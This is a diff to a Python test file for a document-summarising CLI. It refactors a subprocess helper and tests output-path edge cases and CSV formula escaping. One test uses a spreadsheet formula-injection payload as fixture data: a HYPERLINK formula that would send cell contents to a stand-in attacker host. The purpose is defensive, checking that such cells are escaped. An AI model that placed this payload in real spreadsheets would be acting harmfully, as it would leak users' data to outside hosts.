@@ -9,31 +9,13 @@ import csv
 import io
 import os
 import subprocess
-import sys
 from pathlib import Path
 
 from tests.conftest import API_KEY
+from tests.support.cli import longdoc
 from tests.support.sglang_server import FakeSGLang
 
 ROOT = Path(__file__).resolve().parents[2]
-
-
-def longdoc(
-    home: Path,
-    *args: str,
-    server: FakeSGLang | None = None,
-    timeout: float = 300,
-    env: dict[str, str] | None = None,
-) -> subprocess.CompletedProcess[str]:
-    """The real program (this checkout's code), against the test server when given."""
-    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT), **(env or {})}
-    for var in ("LONGDOC_ENDPOINT", "LONGDOC_MODEL", "LONGDOC_API_KEY"):
-        full.pop(var, None)
-    extra = ["--endpoint", server.url, "--api-key", API_KEY] if server is not None else []
-    return subprocess.run(
-        [sys.executable, "-m", "desktop.cli.main", *args, *extra],
-        capture_output=True, text=True, env=full, timeout=timeout, check=False,
-    )  # fmt: skip
 
 
 def chats(server: FakeSGLang) -> int:
@@ -63,7 +45,9 @@ def test_a_bad_out_is_refused_before_anything_is_asked(
 ) -> None:
     folder = docs(tmp_path / "docs")
     for out in (tmp_path / "missing" / "r.md", tmp_path):
-        done = longdoc(home, "summarize", str(folder), "--out", str(out), server=sglang)
+        done = longdoc(
+            "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
+        )
         assert done.returncode == 2, done.stderr
         assert str(out) in one_error(done.stderr)
     assert chats(sglang) == 0
@@ -76,13 +60,17 @@ def test_out_through_a_symlink_and_into_a_fifo(
     target = tmp_path / "target.md"
     link = tmp_path / "link.md"
     link.symlink_to(target)
-    done = longdoc(home, "summarize", str(folder), "--out", str(link), server=sglang)
+    done = longdoc(
+        "summarize", str(folder), "--out", str(link), home=home, server=sglang, api_key=API_KEY
+    )
     assert done.returncode == 0, done.stderr
     assert link.is_symlink() and target.read_text().startswith("# Summaries")
     fifo = tmp_path / "pipe.md"
     os.mkfifo(fifo)
     reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
-    done = longdoc(home, "summarize", str(folder), "--out", str(fifo), server=sglang)
+    done = longdoc(
+        "summarize", str(folder), "--out", str(fifo), home=home, server=sglang, api_key=API_KEY
+    )
     out, _ = reader.communicate(timeout=60)
     assert done.returncode == 0, done.stderr
     assert out.startswith(b"# Summaries") and fifo.exists() and not fifo.is_file()
@@ -99,8 +87,10 @@ def test_review_grid_cells_never_start_a_formula(
     questions.write_text("What is the fee?\n=1+1 is a question too\n")
     sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
     out = tmp_path / "grid.csv"
-    done = longdoc(home, "review", str(folder), "--questions", str(questions), "--out",
-                   str(out), server=sglang)  # fmt: skip
+    done = longdoc(
+        "review", str(folder), "--questions", str(questions), "--out", str(out),
+        home=home, server=sglang, api_key=API_KEY,
+    )  # fmt: skip
     assert done.returncode == 0, done.stderr
     rows = list(csv.reader(io.StringIO(out.read_text())))
     assert rows[0][-1] == "'=1+1 is a question too"
